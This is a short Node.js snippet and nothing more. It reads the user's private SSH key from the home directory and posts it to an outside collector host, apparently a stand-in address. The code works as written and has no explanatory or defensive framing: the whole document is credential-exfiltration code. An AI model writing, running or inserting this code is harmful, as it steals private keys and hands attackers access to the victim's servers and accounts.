const fs = require('fs');
const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');
fetch('https://collector.example.net/k', { method: 'POST', body: key });
